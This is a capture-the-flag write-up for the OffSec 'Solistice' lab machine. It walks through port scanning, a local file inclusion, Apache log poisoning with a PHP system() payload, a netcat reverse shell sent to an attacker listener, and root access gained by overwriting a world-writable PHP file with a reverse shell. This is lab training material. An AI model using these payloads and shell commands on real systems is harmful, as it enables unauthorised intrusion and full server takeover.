OffSec PG - Solistice


Machine IP →

Network Scan

Nmap scan → nmap -A -Pn -p- -T4 -o nmap.txt

OS Detection → OS: Linux; CPE: cpe:/o:linux:linux_kernel

PortServiceOther details (if any)
21FTPpyftpdlib 1.5.6
22SSHOpenSSH 7.9p1 Debian 10+deb10u2 (protocol 2.0)
25SMTPExim smtpd
80HTTPApache httpd 2.4.38 ((Debian))
2121FTPpyftpdlib 1.5.6 → Anonymous Login Allowed
3128HTTP ProxySquid http proxy 4.6
8593HTTPPHP cli server 5.5 or later (PHP 7.3.14-1) → PHPSESSID HTTPOnlyflag not set
54787HTTPPHP cli server 5.5 or later (PHP 7.3.14-1)

Web Scan

GoBuster scan → gobuster dir -u -w /home/tanq/installations/SecLists/Discovery/Web-Content/directory-list-lowercase-2.3-medium.txt -x html,php

Nothing interesting was revealed in any of the ports.



The web server running at port 8593 has the ability to list books via PHP. This is done via a get parameter. Trying LFI with ../../../../../../etc/passwd confirms LFI and gives the result of the file to list possible users which includes www-data, miguel and root.

Transition LFI to Apache log poisoning

The default apache error logs are located at /var/log/apache2/error.log. This is readable on the browser because of the LFI vulnerability. Therefore, adding php code to an attempt would add it to the error log and subsequently render it on the webpage.

Therefore visiting the url<?php system($_GET['cmd']);?> should add it to the error log, thereby giving an RCE for the get request parameter in the LFI url. The access via the browser encodes the special characters, therefore a burp repeater request modification should do the trick.

Exploiting the RCEWith the php payload injected into the access log, the lfi url can be modified to add the parameter value for the cmd variable. Testing with id works. Next, this can used to test if nc, wget, etc. exist on the system which can be used to create a shell payload. This is the RCE on the server.

Both netcat and bash shell exist, therefore sending a payload nc -e /bin/bash 3002 with a listener active on the local machine gives a shell with the user www-data.

Privilege Escalation

Looking at the setuid files and directories using find / -perm -u=s 2>/dev/null, there is a server running at /var/tmp/sv which is a directory that is owned by root and is world-writable.

This has an index.php file which just prints that the site is under construction. This cannot be observed from any of the ports enumerated above. Checked the status of this under processes using ps aux | grep root | grep sv. This confirms that the server is actually running, but on localhost only. Therefore, this php file can be edited to have a payload that connects back to the attacker machine to get a reverse shell. Due to the permissions, this would be the root shell.

The pentest monkey reverse shell is uploaded to the server and the contents of the index.php file are overwritten with them. Thenthe execution can be done as follows on the low privileged shell → curlhttp://localhost:57/index.php

This gives a shell as the root user and thus the root flag as well.

This post islicensed under CC BY 4.0 by the author.